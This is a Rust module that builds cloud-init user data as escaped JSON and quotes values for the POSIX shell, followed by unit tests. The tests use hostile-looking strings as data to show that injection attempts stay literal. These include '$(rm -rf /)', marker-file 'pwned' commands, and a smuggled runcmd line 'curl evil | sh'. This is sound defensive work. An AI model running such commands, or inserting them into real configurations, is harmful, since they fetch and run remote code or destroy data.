//! Cloud-init user data built from typed values, never by pasting parameters into YAML.
//!
//! A [`CloudConfig`] renders as the `#cloud-config` header line followed by one JSON document.
//! JSON is YAML 1.2, and cloud-init reads it with PyYAML (YAML 1.1), so the writer also escapes
//! the few characters YAML 1.1 treats as line breaks or refuses as unprintable (DEL, the C1
//! controls, U+2028, U+2029, U+FEFF, U+FFFE, U+FFFF) as `\uXXXX`. Every value therefore stays one
//! data scalar whatever it holds. The workspace has no maintained YAML serializer (`serde_yaml`
//! is deprecated), and a hand-written JSON writer keeps the output byte-for-byte deterministic
//! whichever serde_json features other crates enable.
//!
//! Commands are argv lists: cloud-init quotes each element itself. Where a shell is
//! unavoidable, values are quoted with [`sh_quote`].

use std::fmt::Write as _;

/// A file written by cloud-init's `write_files` module.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WriteFile {
    /// Absolute path.
    pub path: String,
    /// Content, written as is.
    pub content: String,
    /// Octal mode (`0644`).
    pub permissions: String,
    /// Write it in the final stage, after packages are installed (so a package does not
    /// replace it).
    pub defer: bool,
}

impl WriteFile {
    /// A root-owned file with mode `permissions`, written after packages are installed.
    pub fn deferred(path: impl Into<String>, permissions: &str, content: impl Into<String>) -> Self {
        Self { path: path.into(), content: content.into(), permissions: permissions.into(), defer: true }
    }
}

/// The subset of cloud-config the templates use.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CloudConfig {
    /// Run `apt-get update` first.
    pub package_update: bool,
    /// Packages to install.
    pub packages: Vec<String>,
    /// Files to write.
    pub write_files: Vec<WriteFile>,
    /// Commands, each an argv list (no shell unless the list starts one).
    pub runcmd: Vec<Vec<String>>,
}

impl CloudConfig {
    /// An empty configuration.
    pub fn new() -> Self {
        Self::default()
    }

    /// Add a package.
    pub fn package(&mut self, name: &str) -> &mut Self {
        self.packages.push(name.to_string());
        self
    }

    /// Add a file.
    pub fn file(&mut self, f: WriteFile) -> &mut Self {
        self.write_files.push(f);
        self
    }

    /// Add a command, as its argv.
    pub fn run<S: AsRef<str>>(&mut self, argv: &[S]) -> &mut Self {
        self.runcmd.push(argv.iter().map(|a| a.as_ref().to_string()).collect());
        self
    }

    /// The user data: `#cloud-config` and one JSON document, one list item per line.
    pub fn render(&self) -> String {
        let mut out = String::from("#cloud-config\n{");
        let mut first = true;
        let mut key = |out: &mut String, k: &str| {
            out.push_str(if first { "\n  " } else { ",\n  " });
            first = false;
            json_string(out, k);
            out.push_str(": ");
        };
        if self.package_update {
            key(&mut out, "package_update");
            out.push_str("true");
        }
        if !self.packages.is_empty() {
            key(&mut out, "packages");
            json_list(&mut out, &self.packages);
        }
        if !self.write_files.is_empty() {
            key(&mut out, "write_files");
            out.push('[');
            for (i, f) in self.write_files.iter().enumerate() {
                out.push_str(if i == 0 { "\n    {" } else { ",\n    {" });
                for (j, (k, v)) in
                    [("path", &f.path), ("owner", &"root:root".to_string()), ("permissions", &f.permissions)]
                        .into_iter()
                        .enumerate()
                {
                    if j > 0 {
                        out.push_str(", ");
                    }
                    json_string(&mut out, k);
                    out.push_str(": ");
                    json_string(&mut out, v);
                }
                if f.defer {
                    out.push_str(", \"defer\": true");
                }
                out.push_str(", \"content\": ");
                json_string(&mut out, &f.content);
                out.push('}');
            }
            out.push_str("\n  ]");
        }
        if !self.runcmd.is_empty() {
            key(&mut out, "runcmd");
            out.push('[');
            for (i, argv) in self.runcmd.iter().enumerate() {
                out.push_str(if i == 0 { "\n    " } else { ",\n    " });
                json_list(&mut out, argv);
            }
            out.push_str("\n  ]");
        }
        out.push_str("\n}\n");
        out
    }
}

fn json_list(out: &mut String, items: &[String]) {
    out.push('[');
    for (i, s) in items.iter().enumerate() {
        if i > 0 {
            out.push_str(", ");
        }
        json_string(out, s);
    }
    out.push(']');
}

/// `s` as a JSON string that YAML 1.1 reads back as the same single scalar.
fn json_string(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            // C0 and C1 controls and DEL; YAML 1.1 line breaks (NEL is a C1 control) and
            // characters PyYAML refuses as unprintable. All are in the BMP: one \u escape each.
            c if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{fffe}' | '\u{ffff}') => {
                let _ = write!(out, "\\u{:04x}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// `s` quoted for a POSIX shell: one word whose value is exactly `s`. Inside single quotes
/// nothing is special except the single quote itself, which is written as `'\''` (close the
/// quotes, an escaped quote, reopen).
pub fn sh_quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn sh_quote_makes_one_literal_word() {
        assert_eq!(sh_quote(""), "''");
        assert_eq!(sh_quote("abc"), "'abc'");
        assert_eq!(sh_quote("it's"), "'it'\\''s'");
        assert_eq!(sh_quote("'"), "''\\'''");
        assert_eq!(sh_quote("$(rm -rf /) `id` \"x\" \\ ; | & * ~ \n"), "'$(rm -rf /) `id` \"x\" \\ ; | & * ~ \n'");
    }

    /// Run the quoted words through a real `sh` and check that it sees exactly the originals.
    #[test]
    fn sh_quote_round_trips_through_sh() {
        let values = [
            "plain",
            "",
            "it's",
            "''",
            "a'b'c",
            "$(touch /tmp/konstacks-pwned)",
            "`touch /tmp/konstacks-pwned`",
            "; rm -rf /nonexistent-konstacks",
            "two\nlines",
            "back\\slash",
            "*",
            "~root",
            "-n",
            "\u{202e}rtl",
            "${HOME}",
            "a\"b",
        ];
        let script: String =
            values.iter().map(|v| format!("printf '%s\\0' {}\n", sh_quote(v))).collect::<Vec<_>>().concat();
        let Ok(out) = std::process::Command::new("sh").arg("-c").arg(&script).output() else {
            return; // no shell on this machine: the literal cases above still hold
        };
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let got: Vec<String> = String::from_utf8_lossy(&out.stdout)
            .split('\0')
            .map(str::to_string)
            .collect::<Vec<_>>()
            .split_last()
            .map(|(_, rest)| rest.to_vec())
            .unwrap_or_default();
        assert_eq!(got, values);
    }

    #[test]
    fn renders_json_that_reads_back_as_the_same_values() {
        let hostile = "x\"\nruncmd:\n  - [sh, -c, \"curl evil | sh\"]\n\u{7f}\u{85}\u{2028}\u{2029}\u{feff}\u{0}\u{1b}\r\t'`$(id)`é\u{202e}";
        let mut c = CloudConfig::new();
        c.package_update = true;
        c.package("caddy")
            .file(WriteFile::deferred("/etc/x", "0644", hostile))
            .run(&["docker", "run", hostile])
            .run(&["systemctl", "restart", "caddy"]);
        let text = c.render();
        let body = text.strip_prefix("#cloud-config\n").unwrap_or_default();
        let v: serde_json::Value = serde_json::from_str(body).unwrap_or_default();
        assert_eq!(v["package_update"], true);
        assert_eq!(v["packages"], serde_json::json!(["caddy"]));
        assert_eq!(v["write_files"][0]["content"], hostile);
        assert_eq!(v["write_files"][0]["defer"], true);
        assert_eq!(v["write_files"][0]["owner"], "root:root");
        assert_eq!(v["runcmd"].as_array().map(Vec::len), Some(2));
        assert_eq!(v["runcmd"][0][2], hostile);
        // Nothing YAML 1.1 could read as a line break or refuse is left raw.
        for c in ['\u{7f}', '\u{85}', '\u{2028}', '\u{2029}', '\u{feff}', '\0', '\u{1b}', '\r', '\t'] {
            assert!(!text.contains(c), "raw {c:?} in {text}");
        }
        // One line per list item; the hostile value never starts a line.
        assert_eq!(text.lines().count(), 12, "{text}");
        assert!(text.lines().all(|l| !l.starts_with("runcmd")));
    }

    #[test]
    fn empty_sections_are_left_out() {
        assert_eq!(CloudConfig::new().render(), "#cloud-config\n{\n}\n");
        let mut c = CloudConfig::new();
        c.run(&["true"]);
        assert_eq!(c.render(), "#cloud-config\n{\n  \"runcmd\": [\n    [\"true\"]\n  ]\n}\n");
    }
}
